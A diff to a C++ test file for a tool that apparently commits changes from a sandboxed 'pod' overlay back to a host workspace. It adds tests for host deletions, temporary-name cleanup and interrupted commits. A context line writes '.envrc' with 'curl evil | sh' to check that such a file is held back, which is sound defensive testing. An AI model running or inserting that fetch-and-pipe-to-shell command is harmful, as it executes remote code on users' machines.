@@ -2,6 +2,7 @@
 #include "pod/commit.h"
 
 #include <fcntl.h>
+#include <stdio.h>
 #include <sys/sysmacros.h>
 #include <sys/xattr.h>
 
@@ -11,6 +12,7 @@
 
 #include "overlay_pod.h"
 #include "pod/change_text.h"
+#include "pod/host_writer.h"
 
 namespace weir::pod::testing {
 namespace {
@@ -239,6 +241,60 @@ TEST_F(CommitTest, ADirectoryThatTheHostMadeWhereThePodMadeAFileIsAConflict) {
   EXPECT_TRUE(std::filesystem::is_directory(workspace_ + "/x"));
 }
 
+TEST_F(CommitTest, WhatTheHostRemovedDoesNotComeBackUnasked) {
+  for (const char* one : {"d/gone", "d/moved", "d/edited", "e/linked", "e/touched"})
+    write(one, one);
+  const Pod pod = begin();
+  if (!in_pod(pod, R"(
+    echo more >> d/gone
+    mv d/moved d/new-name
+    mv e/touched e/other; echo more >> e/other
+    ln e/linked e/second
+  )"))
+    GTEST_SKIP() << "no overlay in a user namespace here";
+  ASSERT_EQ(::unlink((workspace_ + "/d/gone").c_str()), 0);
+  EXPECT_EQ(results(committed(pod)),
+            "conflict d/gone\ndone d/moved\ndone d/new-name\ndone e/other\ndone e/second\ndone e/touched\n");
+  EXPECT_FALSE(exists("d/gone"));
+  EXPECT_EQ(results(committed(pod, {.paths = {}, .held = {}, .force = {"d/gone"}})), "done d/gone\n");
+}
+
+TEST_F(CommitTest, WhatIsNotOursUnderATemporaryNameIsNotRemoved) {
+  write("a", "host's newer");
+  const Pod pod = begin();
+  left(pod, "a", "pod's");
+  const OpenPod opened = open(pod);
+  const auto list = changes(pod);
+  HostWriter writer(opened.host.get(), opened.upper.get());
+  auto staged = writer.stage(list.at(0), ".weir-test");
+  ASSERT_TRUE(staged);
+  // A swap that could not be undone: the host's file has the temporary name alone.
+  ASSERT_EQ(::renameat2(AT_FDCWD, (workspace_ + "/a").c_str(), AT_FDCWD, (workspace_ + "/.weir-test").c_str(),
+                        RENAME_EXCHANGE),
+            0);
+  writer.drop(*staged);
+  EXPECT_EQ(read(".weir-test"), "host's newer");
+  // Nor after a kill at that moment, by the next commit: it stops and names it.
+  PathRecords journal;
+  journal["a"] = {.host = "file:644:" + std::string(64, '0'),
+                  .pod = state_text(list.at(0).pod),
+                  .temporary = ".weir-test",
+                  .held = false,
+                  .forced = false};
+  ASSERT_TRUE(
+      write_path_records(store().directory(pod) + "/commit.jsonl", "commit", journal, os::Durability::none));
+  const auto refused = commit(store(), pod, catalogue(), {});
+  ASSERT_FALSE(refused);
+  EXPECT_NE(refused.error().message().find(".weir-test"), std::string::npos) << refused.error().message();
+  EXPECT_EQ(read(".weir-test"), "host's newer");
+  // What was compared may go.
+  journal["a"].host = state_text(list.at(0).host);
+  ASSERT_TRUE(
+      write_path_records(store().directory(pod) + "/commit.jsonl", "commit", journal, os::Durability::none));
+  EXPECT_TRUE(commit(store(), pod, catalogue(), {}));
+  EXPECT_FALSE(exists(".weir-test"));
+}
+
 TEST_F(CommitTest, ALinkToItselfLeadsNowhere) {
   const Pod pod = begin();
   ASSERT_EQ(::symlink("loop", (pod.upper + "/loop").c_str()), 0);
@@ -372,6 +428,25 @@ TEST_F(CommitTest, AJournalGivesNothingForWhatThePodChangedSince) {
       write_path_records(store().directory(pod) + "/commit.jsonl", "commit", journal, os::Durability::none));
   left(pod, ".envrc", "curl evil | sh");
   EXPECT_EQ(results(committed(pod)), "held .envrc\n");
+}
+
+TEST_F(CommitTest, ADirectoryHalfMadeByAnInterruptedCommitIsNoConflict) {
+  const Pod pod = begin();
+  left(pod, "new/deep/a", "x");
+  const auto shown = review(pod);
+  ASSERT_TRUE(remember_shown(open(pod), shown, {}));
+  const Change& file = shown.changes.back().change;
+  PathRecords journal;
+  journal[file.path] = {.host = state_text(file.host),
+                        .pod = state_text(file.pod),
+                        .temporary = ".weir-0011223344556677-0",
+                        .held = false,
+                        .forced = false};
+  ASSERT_TRUE(
+      write_path_records(store().directory(pod) + "/commit.jsonl", "commit", journal, os::Durability::none));
+  ASSERT_EQ(::mkdir((workspace_ + "/new").c_str(), 0700), 0);
+  EXPECT_EQ(results(committed(pod)), "done new\ndone new/deep/a\n");
+  EXPECT_EQ(mode("new"), 0755u);
 }
 
 TEST_F(CommitTest, HardLinksOnTheHostAreNoConflictAfterAnInterruption) {
